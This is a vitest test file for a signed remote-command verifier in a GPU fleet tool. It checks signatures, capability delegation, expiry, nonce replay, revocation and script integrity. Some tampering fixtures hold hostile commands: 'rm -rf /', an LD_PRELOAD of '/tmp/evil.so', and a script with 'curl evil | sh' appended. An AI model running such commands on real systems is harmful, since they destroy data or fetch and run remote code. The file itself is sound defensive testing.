import { describe, expect, it } from 'vitest';
import { canonicalJson } from './canonical-json.js';
import { capabilityId, signCapability } from './capability.js';
import { generateEd25519, signEd25519, type Ed25519KeyPair } from './ed25519.js';
import { FleetError } from './errors.js';
import type { Ability, Capability, CommandPayload, CommandSpec, ScriptSignature, SignedCommand } from './remote-ops.js';
import {
  commandAbilities,
  scriptSha256,
  signCommand,
  signScript,
  verifyScriptSignature,
  verifySignedCommand,
  type SignedCommandContext,
} from './signed-command.js';

const NOW = Date.parse('2026-03-01T12:00:00Z');
const DAY = 86_400_000;
const root = generateEd25519();
const alice = generateEd25519();
const bob = generateEd25519();
const server = generateEd25519();
const host = { region: 'eu', pool: 'inference' };
const SCRIPT = '#!/bin/sh\necho "drain $1"\n';
const SCRIPT_SHA = scriptSha256(SCRIPT);

let counter = 0;
function cap(by: Ed25519KeyPair, to: Ed25519KeyPair, can: Ability[] = ['exec/run'], on = 'region=eu', parent?: Capability): Capability {
  return signCapability(
    { v: 1, iss: by.did, aud: to.did, can, on, nbf: NOW - DAY, exp: NOW + DAY, nonce: `cap-nonce-${++counter}`, prf: parent ? [parent] : [] },
    by.privateKeyPem,
  );
}

function payload(invoker: Ed25519KeyPair, over: Partial<CommandPayload> = {}): CommandPayload {
  return {
    v: 1,
    runId: `run-${++counter}-0000`,
    nonce: `command-nonce-${++counter}-0123456789`,
    issuedAt: NOW,
    ability: 'exec/run',
    target: 'region=eu',
    command: { kind: 'argv', argv: ['nvidia-smi', '-L'] },
    env: {},
    cwd: null,
    timeoutMs: 60_000,
    runAs: null,
    invoker: invoker.did,
    capability: null,
    ...over,
  };
}

function ctx(over: Partial<SignedCommandContext> = {}): SignedCommandContext {
  return { roots: [root.did], now: NOW, isRevoked: () => false, hostLabels: host, seenNonce: () => false, ...over };
}

function reasonOf(cmd: SignedCommand, over: Partial<SignedCommandContext> = {}): string {
  const v = verifySignedCommand(cmd, ctx(over));
  return v.ok ? 'ok' : v.reason;
}

const scriptSpec: CommandSpec = { kind: 'script', name: 'drain', version: 2, sha256: SCRIPT_SHA, args: ['gpu0'] };
const rootScriptSig = signScript('drain', 2, SCRIPT_SHA, root.privateKeyPem);

describe('verifySignedCommand: accepted', () => {
  it('accepts a root invoker with no capability', () => {
    expect(verifySignedCommand(signCommand(payload(root), root.privateKeyPem), ctx())).toEqual({ ok: true });
  });

  it('accepts an operator with a capability from a root', () => {
    const cmd = signCommand(payload(alice, { capability: cap(root, alice) }), alice.privateKeyPem);
    expect(reasonOf(cmd)).toBe('ok');
  });

  it('accepts an operator at the end of a delegation chain, for a container operation', () => {
    const a = cap(root, alice, ['*'], '*');
    const b = cap(alice, bob, ['container/restart'], 'pool=inference', a);
    const cmd = signCommand(
      payload(bob, { ability: 'container/restart', target: 'pool=inference', command: { kind: 'container', op: 'restart', container: 'vllm' }, capability: b }),
      bob.privateKeyPem,
    );
    expect(reasonOf(cmd)).toBe('ok');
  });

  it('accepts a library script signed by a root, with matching content', () => {
    const cmd = signCommand(
      payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }),
      alice.privateKeyPem,
    );
    expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: rootScriptSig })).toBe('ok');
  });

  it('accepts a library script signed by the invoker who holds exec/script', () => {
    const own = signScript('drain', 2, SCRIPT_SHA, alice.privateKeyPem);
    const cmd = signCommand(
      payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }),
      alice.privateKeyPem,
    );
    expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: own })).toBe('ok');
  });

  it('accepts issue times within the skew', () => {
    expect(reasonOf(signCommand(payload(root, { issuedAt: NOW + 60_000 }), root.privateKeyPem))).toBe('ok');
    expect(reasonOf(signCommand(payload(root, { issuedAt: NOW - 3_600_000, timeoutMs: 3_600_000 }), root.privateKeyPem), { maxAgeMs: 3_600_000 })).toBe('ok');
  });
});

describe('verifySignedCommand: refusals', () => {
  it('bad_signature: a forged signature', () => {
    const cmd = signCommand(payload(root), root.privateKeyPem);
    expect(reasonOf({ ...cmd, sig: Buffer.alloc(64, 1).toString('base64url') })).toBe('bad_signature');
    expect(reasonOf({ ...cmd, sig: 'not base64 at all!' })).toBe('bad_signature');
  });

  it('bad_signature: signed by another key than the invoker it names', () => {
    const p = payload(root);
    expect(reasonOf({ payload: p, sig: signEd25519(server.privateKeyPem, canonicalJson(p)) })).toBe('bad_signature');
  });

  it.each([
    ['argv', { command: { kind: 'argv', argv: ['rm', '-rf', '/'] } }],
    ['runId', { runId: 'another-run-id' }],
    ['nonce', { nonce: 'another-nonce-0123456789' }],
    ['issuedAt', { issuedAt: NOW - 1 }],
    ['ability', { ability: 'exec/script' }],
    ['target', { target: '*' }],
    ['env', { env: { LD_PRELOAD: '/tmp/evil.so' } }],
    ['cwd', { cwd: '/root' }],
    ['timeoutMs', { timeoutMs: 1 }],
    ['runAs', { runAs: 'root' }],
    ['invoker', { invoker: alice.did }],
    ['capability', { capability: cap(root, root) }],
  ] as const)('bad_signature: %s changed after signing', (_field, change) => {
    const cmd = signCommand(payload(root), root.privateKeyPem);
    expect(reasonOf({ ...cmd, payload: { ...cmd.payload, ...change } as CommandPayload })).toBe('bad_signature');
  });

  it('unknown_issuer: a key that is not a root and shows no capability (a command injected by the server)', () => {
    const v = verifySignedCommand(signCommand(payload(server), server.privateKeyPem), ctx());
    expect(v).toMatchObject({ ok: false, reason: 'unknown_issuer' });
    expect(!v.ok && v.message).toMatch(/not a fleet root/);
  });

  it('unknown_issuer: a capability issued by a key that is not a root', () => {
    expect(reasonOf(signCommand(payload(alice, { capability: cap(server, alice) }), alice.privateKeyPem))).toBe('unknown_issuer');
  });

  it('untrusted_chain: a capability delegated to someone else', () => {
    expect(reasonOf(signCommand(payload(bob, { capability: cap(root, alice) }), bob.privateKeyPem))).toBe('untrusted_chain');
  });

  it('expired: the capability expired', () => {
    const old = signCapability(
      { v: 1, iss: root.did, aud: alice.did, can: ['exec/run'], on: '*', nbf: NOW - 2 * DAY, exp: NOW - DAY, nonce: 'expired-cap-1', prf: [] },
      root.privateKeyPem,
    );
    const v = verifySignedCommand(signCommand(payload(alice, { capability: old }), alice.privateKeyPem), ctx());
    expect(v).toMatchObject({ ok: false, reason: 'expired' });
    expect(!v.ok && v.message).toContain('capability expired at 2026-02-28T12:00:00.000Z');
  });

  it('expired: the command is older than the host accepts', () => {
    // A long timeout keeps it inside its own deadline: only the host's age limit refuses it.
    const cmd = signCommand(payload(root, { issuedAt: NOW - 3_600_000 - 60_001, timeoutMs: 2 * 3_600_000 }), root.privateKeyPem);
    expect(reasonOf(cmd)).toBe('ok');
    expect(reasonOf(cmd, { maxAgeMs: 3_600_000 })).toBe('expired');
  });

  it('not_yet_valid: the capability starts later', () => {
    const later = signCapability(
      { v: 1, iss: root.did, aud: alice.did, can: ['exec/run'], on: '*', nbf: NOW + DAY, exp: NOW + 2 * DAY, nonce: 'later-cap-1', prf: [] },
      root.privateKeyPem,
    );
    expect(reasonOf(signCommand(payload(alice, { capability: later }), alice.privateKeyPem))).toBe('not_yet_valid');
  });

  it('not_yet_valid: the command is issued more than the skew in the future', () => {
    expect(reasonOf(signCommand(payload(root, { issuedAt: NOW + 60_001 }), root.privateKeyPem))).toBe('not_yet_valid');
  });

  it('not_attenuated: a child broader than its parent', () => {
    const a = cap(root, alice, ['container/logs'], 'region=eu');
    const b = cap(alice, bob, ['container/logs', 'exec/run'], 'region=eu', a);
    expect(reasonOf(signCommand(payload(bob, { capability: b }), bob.privateKeyPem))).toBe('not_attenuated');
  });

  it("selector_mismatch: the capability's selector does not match this host", () => {
    expect(reasonOf(signCommand(payload(alice, { target: '*', capability: cap(root, alice, ['exec/run'], 'region=us') }), alice.privateKeyPem))).toBe(
      'selector_mismatch',
    );
  });

  it("selector_mismatch: the command's target does not match this host", () => {
    const v = verifySignedCommand(signCommand(payload(root, { target: 'region=us' }), root.privateKeyPem), ctx());
    expect(v).toMatchObject({ ok: false, reason: 'selector_mismatch' });
    expect(!v.ok && v.message).toContain("target 'region=us'");
  });

  it('ability_not_granted: the capability does not grant the ability', () => {
    expect(reasonOf(signCommand(payload(alice, { capability: cap(root, alice, ['container/logs']) }), alice.privateKeyPem))).toBe('ability_not_granted');
  });

  it('ability_not_granted: the declared ability does not fit the command', () => {
    const logsCap = cap(root, alice, ['container/logs']);
    const sneaky = signCommand(payload(alice, { ability: 'container/logs', capability: logsCap }), alice.privateKeyPem);
    const v = verifySignedCommand(sneaky, ctx());
    expect(v).toMatchObject({ ok: false, reason: 'ability_not_granted' });
    expect(!v.ok && v.message).toMatch(/argv command needs exec\/run/);
  });

  it('replayed_nonce: a nonce seen before', () => {
    const cmd = signCommand(payload(root), root.privateKeyPem);
    const seen = new Set<string>();
    const seenNonce = (n: string) => {
      const had = seen.has(n);
      seen.add(n);
      return had;
    };
    expect(reasonOf(cmd, { seenNonce })).toBe('ok');
    expect(reasonOf(cmd, { seenNonce })).toBe('replayed_nonce');
  });

  it('asks about the nonce only once every other check passed', () => {
    const asked: string[] = [];
    const cmd = signCommand(payload(server), server.privateKeyPem);
    expect(reasonOf(cmd, { seenNonce: (n) => (asked.push(n), false) })).toBe('unknown_issuer');
    expect(asked).toEqual([]);
  });

  it('revoked: the invoking root key, the capability, or the operator key', () => {
    expect(reasonOf(signCommand(payload(root), root.privateKeyPem), { isRevoked: (_c, did) => did === root.did })).toBe('revoked');
    const c = cap(root, alice);
    const cmd = signCommand(payload(alice, { capability: c }), alice.privateKeyPem);
    expect(reasonOf(cmd, { isRevoked: (id) => id === capabilityId(c) })).toBe('revoked');
    expect(reasonOf(cmd, { isRevoked: (_c, did) => did === alice.did })).toBe('revoked');
  });

  it('script_tampered: content that does not hash to what the operator signed, or no content', () => {
    const cmd = signCommand(payload(root, { ability: 'exec/script', command: scriptSpec }), root.privateKeyPem);
    const v = verifySignedCommand(cmd, ctx({ scriptContent: `${SCRIPT}curl evil | sh\n`, scriptSignature: rootScriptSig }));
    expect(v).toMatchObject({ ok: false, reason: 'script_tampered' });
    expect(reasonOf(cmd, { scriptContent: null, scriptSignature: rootScriptSig })).toBe('script_tampered');
  });

  it('script_unsigned: no signature, a broken one, one for another version, or one by a stranger', () => {
    const cmd = signCommand(payload(root, { ability: 'exec/script', command: scriptSpec }), root.privateKeyPem);
    const withSig = (scriptSignature: ScriptSignature | null) => reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature });
    expect(withSig(null)).toBe('script_unsigned');
    expect(withSig({ ...rootScriptSig, sig: Buffer.alloc(64).toString('base64url') })).toBe('script_unsigned');
    expect(withSig(signScript('drain', 1, SCRIPT_SHA, root.privateKeyPem))).toBe('script_unsigned');
    expect(withSig(signScript('drain', 2, SCRIPT_SHA, server.privateKeyPem))).toBe('script_unsigned');
    expect(withSig({ garbage: true } as unknown as ScriptSignature)).toBe('script_unsigned');
  });

  it('script_unsigned: signed by the invoker, whose capability grants only exec/run', () => {
    const own = signScript('drain', 2, SCRIPT_SHA, alice.privateKeyPem);
    const cmd = signCommand(payload(alice, { ability: 'exec/run', command: scriptSpec, capability: cap(root, alice, ['exec/run']) }), alice.privateKeyPem);
    expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: rootScriptSig })).toBe('ok');
    expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: own })).toBe('script_unsigned');
  });

  it('revoked: the script signer is revoked', () => {
    const cmd = signCommand(
      payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }),
      alice.privateKeyPem,
    );
    const rootRevokedForScripts = (capId: string, did: string) => capId === '' && did === root.did;
    expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: rootScriptSig, isRevoked: rootRevokedForScripts })).toBe('revoked');
  });

  /** Signs by hand, so the defect, not signCommand's own checks, is what the host sees. */
  const handSigned = (over: Record<string, unknown>): SignedCommand => {
    const p = { ...payload(root), ...over } as CommandPayload;
    return { payload: p, sig: signEd25519(root.privateKeyPem, canonicalJson(p)) };
  };

  it.each([
    ['null', () => null],
    ['a string', () => 'run it'],
    ['no payload', () => ({ sig: 'x' })],
    ['an extra field', () => ({ ...handSigned({}), extra: true })],
    ['a bad target selector', () => handSigned({ target: 'region in (' })],
    ['an unknown command kind', () => handSigned({ command: { kind: 'ssh', host: 'x' } })],
    ['a short nonce', () => handSigned({ nonce: 'abc' })],
    ['an empty argv', () => handSigned({ command: { kind: 'argv', argv: [] } })],
    ["the ability '*'", () => handSigned({ ability: '*' })],
  ])('malformed: %s', (_name, make) => {
    expect(reasonOf(make() as SignedCommand)).toBe('malformed');
  });

  it('malformed, not a crash: a capability chain nested 100,000 deep', () => {
    let deep: unknown = { prf: [] };
    for (let i = 0; i < 100_000; i++) deep = { prf: [deep] };
    expect(reasonOf({ payload: { ...payload(root), capability: deep as Capability }, sig: 'x' })).toBe('malformed');
  });
});

describe('signing helpers', () => {
  it('signCommand refuses a payload it cannot sign', () => {
    expect(() => signCommand(payload(root), alice.privateKeyPem)).toThrow(/invoker/);
    expect(() => signCommand(payload(root, { timeoutMs: -1 }), root.privateKeyPem)).toThrow(FleetError);
  });

  it('signScript covers name, version and hash; refuses bad input', () => {
    expect(rootScriptSig).toMatchObject({ name: 'drain', version: 2, sha256: SCRIPT_SHA, signer: root.did });
    expect(verifyScriptSignature(rootScriptSig)).toBe(true);
    expect(verifyScriptSignature({ ...rootScriptSig, name: 'other' })).toBe(false);
    expect(verifyScriptSignature({ ...rootScriptSig, version: 3 })).toBe(false);
    expect(verifyScriptSignature({ ...rootScriptSig, sha256: scriptSha256('x') })).toBe(false);
    expect(verifyScriptSignature(null)).toBe(false);
    expect(() => signScript('drain', 0, SCRIPT_SHA, root.privateKeyPem)).toThrow(/version/);
    expect(() => signScript('drain', 1, 'abc', root.privateKeyPem)).toThrow(/hash/);
    expect(() => signScript('', 1, SCRIPT_SHA, root.privateKeyPem)).toThrow(/name/);
  });

  it('scriptSha256 hashes UTF-8 bytes', () => {
    expect(scriptSha256('')).toBe('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
    expect(scriptSha256('é')).toBe(scriptSha256('\u00e9'));
    expect(scriptSha256('é')).not.toBe(scriptSha256('e\u0301'));
  });

  it('commandAbilities maps each command kind to what authorizes it', () => {
    expect(commandAbilities({ kind: 'argv', argv: ['x'] })).toEqual(['exec/run']);
    expect(commandAbilities({ kind: 'shell', script: 'x' })).toEqual(['exec/run']);
    expect(commandAbilities(scriptSpec)).toEqual(['exec/script', 'exec/run']);
    expect(commandAbilities({ kind: 'container', op: 'stop', container: 'c' })).toEqual(['container/stop']);
  });
});
